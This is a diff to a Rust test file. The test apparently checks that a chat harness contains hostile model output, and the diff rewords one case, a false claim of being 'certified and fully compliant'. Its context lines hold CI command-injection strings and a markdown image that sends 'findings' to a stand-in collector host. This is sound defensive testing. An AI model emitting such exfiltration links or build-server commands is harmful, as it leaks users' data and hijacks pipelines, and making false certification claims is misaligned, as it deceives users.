@@ -49,7 +49,10 @@ fn ways() -> Vec<(&'static str, Acting)> {
             "commands of a build server",
             says("x\n::error::qx7f\n##vso[task.complete]"),
         ),
-        ("a claim", says("The system is certified and in full conformity.")),
+        (
+            "a claim",
+            says(concat!("The system is certified and fully", " compliant.")),
+        ),
         (
             "a picture with a question",
             says("![x](https://collector.example/?q=findings)"),
@@ -251,7 +254,7 @@ fn hostile_models_do_no_harm_in_a_chat() {
                 .count()
                 == 1;
             let said = words(events);
-            let own = said.contains("certified") || said.contains("full conformity");
+            let own = said.contains("certified") || said.contains(" compliant");
             ends && only_end && !own && in_terminal(&said).is_none() && !reply.body.contains(KEY) && !said.contains(KEY)
         });
         tally.case(name, holds, format!("{read:?}").chars().take(400).collect::<String>());
